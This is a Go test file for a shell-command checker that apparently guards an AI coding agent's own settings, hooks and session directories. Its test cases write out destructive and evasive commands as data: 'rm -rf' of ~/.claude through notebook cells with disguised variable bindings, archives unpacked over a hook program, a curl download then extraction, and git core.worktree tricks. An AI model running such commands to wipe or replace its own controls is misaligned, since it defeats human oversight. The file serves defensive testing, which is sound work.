package shell

import (
	"encoding/json"
	"errors"
	"io/fs"
	"slices"
	"strings"
	"testing"
)

// notebookOf is a Python notebook whose code cells are cells, in order.
func notebookOf(cells ...string) string {
	type cell struct {
		Type   string `json:"cell_type"`
		Source string `json:"source"`
	}
	nb := struct {
		Cells []cell `json:"cells"`
	}{}
	for _, c := range cells {
		nb.Cells = append(nb.Cells, cell{"code", c})
	}
	b, _ := json.Marshal(nb)
	return string(b)
}

// runNotebook is a line that writes nb and executes it.
func runNotebook(nb string) string {
	return "printf '%s' " + shWord(nb) + " > a.ipynb && jupyter nbconvert --execute --to notebook a.ipynb"
}

// The shell lines of a notebook take the values earlier cells give their
// names: a protected place named that way is judged as written out, a
// harmless one runs.
func TestNotebookValues(t *testing.T) {
	sets := []string{"NAME = 'VAL'", `NAME = "VAL"`, "NAME = r'VAL'", "NAME='VAL'  # where", "import os\nNAME = 'VAL'\nprint(NAME)"}
	uses := []string{"!rm -rf {NAME}", "!rm -rf $NAME", "!!rm -rf {NAME}/", "out = !rm -rf {NAME}", "!cp x.json {NAME}/settings.json",
		"%sx rm -rf { NAME }", "!tar -czf b.tgz {NAME} && rm -rf {NAME}"}
	places := []struct {
		val    string
		attack bool
	}{{"~/.claude", true}, {"/home/dev/.claude", true}, {"/srv/ag/sessions", true}, {"build", false}, {"./dist/tmp", false}}
	for _, name := range []string{"path", "p", "settings_dir"} {
		for _, set := range sets {
			for _, use := range uses {
				for _, pl := range places {
					r := strings.NewReplacer("NAME", name, "VAL", pl.val)
					for _, cells := range [][]string{{r.Replace(set), r.Replace(use)}, {r.Replace(set + "\n" + use)}, {r.Replace(set), "x = 1", r.Replace(use)}} {
						got := selfFindingsIn(runNotebook(notebookOf(cells...)), selfOptions)
						if pl.attack && len(got) == 0 {
							t.Errorf("%q: no shell.self finding", cells)
						}
						if !pl.attack && len(got) > 0 {
							t.Errorf("%q: %v, want none", cells, got)
						}
					}
				}
			}
		}
	}
}

// A name bound again, or code that can bind names unseen, leaves the
// value unknown: the line is judged as it is with a value of the kernel,
// never with the harmless value the notebook showed first. A name
// mentioned inside brackets or a string that runs over lines is
// forgotten too: unknown, never cleared.
func TestNotebookValuesUnknown(t *testing.T) {
	hidden := [][]string{
		{"path = 'build'", "path = os.path.expanduser('~/.claude')"},
		{"path = 'build'", "if True:\n    path = '~/.claude'"},
		{"path = 'build'", "for path in ['~/.claude']:\n    pass"},
		{"path = 'build'", "with open('x') as path:\n    pass"},
		{"path = 'build'", "exec(\"path = '~/.claude'\")"},
		{"path = 'build'", "globals()['pa' + 'th'] = '~/.claude'"},
		{"def f():\n    global path\n    path = '~/.claude'", "path = 'build'", "f()"},
		{"path = 'build'", "%run set_path.py"},
		{"path = 'build'", "%store -r path"},
		{"path = 'build'", "%%capture path\nprint(1)"},
		{"path = 'build'", "%%bash --out path\necho ~/.claude"},
		{"path = 'build'", "s = \"\"\"\n\"\"\"; path = '~/.claude'"},
		{"path = '~/.claude'", "s = \"\"\"\npath = 'build'\n\"\"\""},
		{"path = '~/.claude'", "d = dict(\npath = 'build'\n)"},
		{"path = 'build'", "path += '/../../.claude'"},
		{"path = 'build'", "path, other = '~/.claude', 1"},
		{"path = 'build'", "(path := '~/.claude')"},
		{"path = 'build'", "from cfg import *"},
		{"path = 'build'", "import sys; sys.modules[__name__].path = '~/.claude'"},
		{"path = 'build'", "path = f'{home}/.claude'"},
		{"path = 'build'", "path = 'a' \\\n  + '~/.claude'"},
	}
	for _, use := range []string{"!rm -rf {path}", "!rm -rf $path"} {
		base := ruleIDs(Analyze(runNotebook(notebookOf(strings.ReplaceAll(use, "path", "unset_name"))), selfOptions))
		for _, cells := range hidden {
			cells = append(slices.Clone(cells), use)
			got := ruleIDs(Analyze(runNotebook(notebookOf(cells...)), selfOptions))
			if !slices.Equal(got, base) {
				t.Errorf("%q: %v, want %v as for a value not known", cells, got, base)
			}
		}
	}
}

// An archive whose index is read on disk, unpacked into the directory
// that holds the hook program, runs when no member lands on the program;
// one member on it, an archive not listed, or one written on the line
// stays blocked.
func TestArchiveIntoProgramDirectory(t *testing.T) {
	listing := map[string][]IncomingFile{
		"/home/dev/project/tools.tar": {{Name: "bin/"}, {Name: "bin/lint"}, {Name: "README"}},
		"/home/dev/project/tools.tgz": {{Name: "fmt"}, {Name: "share/fmt.1"}},
		"/home/dev/project/tools.zip": {{Name: "lint.exe"}, {Name: "doc/x.txt"}},
		"/home/dev/project/bad.tar":   {{Name: "README"}, {Name: "ag-hook"}},
		"/home/dev/project/bad.zip":   {{Name: "./ag-hook"}},
		"/home/dev/project/deep.tar":  {{Name: "x/ag-hook"}},
	}
	opts := selfOptions
	opts.HookPrograms = func(bool) []string { return []string{"/home/dev/tools/ag-hook"} }
	opts.Incoming = func(in Incoming) ([]IncomingFile, error) {
		if f, ok := listing[in.Archive]; ok {
			return f, nil
		}
		return nil, errNotListed
	}
	for _, d := range []string{"~/tools", "~/tools/", "$HOME/tools", "/home/dev/tools"} {
		for _, tpl := range []string{"tar -x -C D -f tools.tar", "tar -xf tools.tar -C D", "tar xzf tools.tgz -C D", "tar --extract --file=tools.tgz --directory=D",
			"unzip -d D tools.zip", "unzip -o tools.zip -d D", "tar -xf deep.tar -C D", "tar -xf tools.tar --strip-components=1 -C D"} {
			cmd := strings.ReplaceAll(tpl, "D", d)
			if got := selfFindingsIn(cmd, opts); len(got) > 0 {
				t.Errorf("%s: %v, want none", cmd, got)
			}
		}
		for _, tpl := range []string{"tar -xf bad.tar -C D", "unzip bad.zip -d D", "tar -xf missing.tar -C D", "tar -xf deep.tar --strip-components=1 -C D",
			"curl -sLo tools.tar https://x.example/t.tar && tar -xf tools.tar -C D", "cp bad.tar tools.tar && tar -xf tools.tar -C D", "cp bad.tar 'tools'.tar; tar -xf tools.tar -C D",
			"python3 -c 'import shutil; shutil.copy(\"bad.tar\", \"to\" + \"ols.tar\")' && tar -xf tools.tar -C D", "n=tools; cp bad.tar $n.tar; tar -xf tools.tar -C D",
			"tar -x -C D < tools.tar", "tar -xPf tools.tar -C D", "rm -rf D && tar -xf tools.tar -C D"} {
			cmd := strings.ReplaceAll(tpl, "D", d)
			if len(selfFindingsIn(cmd, opts)) == 0 {
				t.Errorf("%s: no shell.self finding (found %v)", cmd, ruleIDs(Analyze(cmd, opts)))
			}
		}
	}
}

var errNotListed = errors.New("not listed")

// A repository whose own config names its work tree: git commands that
// write the work tree through it are judged as --work-tree=THAT, whether
// the config is on disk, written on the line, or set by git config /
// git init --separate-git-dir before.
func TestGitDirConfigWorkTree(t *testing.T) {
	verbs := []string{"checkout .", "reset --hard", "restore .", "stash pop", "clean -fdx", "apply x.diff", "am x.mbox", "merge main", "pull"}
	runs := []struct{ dir, tmpl string }{
		{"/tmp/r", "GIT_DIR=/tmp/r git V"}, {"/tmp/r", "git --git-dir=/tmp/r V"}, {"/tmp/r", "git --git-dir /tmp/r V"},
		{"/tmp/r", "env GIT_DIR=/tmp/r git V"}, {"/tmp/r", "export GIT_DIR=/tmp/r; git V"}, {"/tmp/w/.git", "git -C /tmp/w V"},
		{"/home/dev/project/.git", "git V"}, {"/home/dev/project/sub/.git", "cd sub && git V"},
	}
	trees := []struct {
		val    string
		attack bool
	}{{"/home/dev/.claude", true}, {"~/.claude", true}, {"/srv/ag/sessions", true}, {"../../home/dev/.claude", true},
		{"/home/dev/project/build", false}, {"/tmp/wt", false}, {"worktree", false}}
	for _, tr := range trees {
		for _, run := range runs {
			configs := []string{"[core]\n\tworktree = " + tr.val + "\n", "[core]\n\tbare = false\n[core]\n  worktree=\"" + tr.val + "\" ; set by hand\n",
				"[user]\n\tname = x\n[Core]\n\tWorkTree = " + tr.val}
			for _, cfg := range configs {
				opts := selfOptions
				opts.ReadFile = func(abs string) ([]byte, error) {
					if abs == run.dir+"/config" {
						return []byte(cfg), nil
					}
					return nil, fs.ErrNotExist
				}
				for _, v := range verbs {
					line := strings.ReplaceAll(run.tmpl, "V", v)
					got := selfFindingsIn(line, opts)
					if tr.attack && len(got) == 0 {
						t.Errorf("%s with core.worktree %s on disk: no shell.self finding", line, tr.val)
					}
					if !tr.attack && len(got) > 0 && v != "clean -fdx" { // clean is judged in the working directory too
						t.Errorf("%s with core.worktree %s on disk: %v, want none", line, tr.val, got)
					}
				}
			}
		}
	}
	// Made on the line: git config, printf into the config, git init
	// --separate-git-dir.
	for _, tr := range trees[:3] {
		for _, tmpl := range []string{"git --git-dir=/tmp/r config core.worktree W && git --git-dir=/tmp/r reset --hard",
			"git config core.worktree W; git checkout .", "GIT_DIR=/tmp/r git config core.worktree W; GIT_DIR=/tmp/r git stash pop",
			"git -C /tmp/w config core.worktree W && git -C /tmp/w restore .",
			"mkdir -p /tmp/r && printf '[core]\\n\\tworktree = W\\n' > /tmp/r/config && git --git-dir=/tmp/r checkout main -- .",
			"git init --separate-git-dir /tmp/r W && git --git-dir=/tmp/r reset --hard"} {
			line := strings.ReplaceAll(tmpl, "W", tr.val)
			if len(selfFindingsIn(line, selfOptions)) == 0 {
				t.Errorf("%s: no shell.self finding (found %v)", line, ruleIDs(Analyze(line, selfOptions)))
			}
		}
	}
	// Reading and staging run whatever the work tree; a config that
	// includes another file is not told, and runs as before.
	opts := selfOptions
	opts.ReadFile = func(abs string) ([]byte, error) {
		switch abs {
		case "/tmp/r/config":
			return []byte("[core]\n\tworktree = /home/dev/.claude\n"), nil
		case "/tmp/i/config":
			return []byte("[include]\n\tpath = other\n"), nil
		}
		return nil, fs.ErrNotExist
	}
	for _, line := range []string{"GIT_DIR=/tmp/r git status", "git --git-dir=/tmp/r log -p", "git --git-dir=/tmp/r diff", "GIT_DIR=/tmp/i git reset --hard",
		"git --git-dir=/tmp/r add -A", "git --git-dir=/tmp/r apply --check x.diff", "git config core.worktree ../w && git checkout ."} {
		if got := selfFindingsIn(line, opts); len(got) > 0 {
			t.Errorf("%s: %v, want none", line, got)
		}
	}
}

// FuzzGitConfigWorkTree: the config reader never panics, and a value it
// reads is text of the file.
func FuzzGitConfigWorkTree(f *testing.F) {
	f.Add("[core]\n\tworktree = /home/u/.claude\n")
	f.Add("[core \"x\"]\nworktree=\"a\\\"b\" ; c\n[include]\npath=x")
	f.Add("[core]worktree = x\r\n")
	f.Fuzz(func(t *testing.T, text string) {
		tree, found, _ := gitConfigWorkTree(text)
		if !found && tree != "" {
			t.Fatalf("%q: tree %q without found", text, tree)
		}
		if len(tree) > len(text) {
			t.Fatalf("%q: tree %q longer than the file", text, tree)
		}
	})
}
